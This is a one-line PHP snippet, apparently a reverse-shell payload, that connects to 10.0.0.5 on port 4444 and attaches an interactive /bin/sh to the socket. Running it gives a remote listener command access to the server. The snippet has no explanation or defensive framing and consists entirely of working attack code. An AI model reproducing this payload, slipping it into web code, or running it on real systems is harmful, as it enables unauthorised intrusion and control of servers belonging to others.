<?php $s = fsockopen("10.0.0.5", 4444); $proc = proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $pipes);
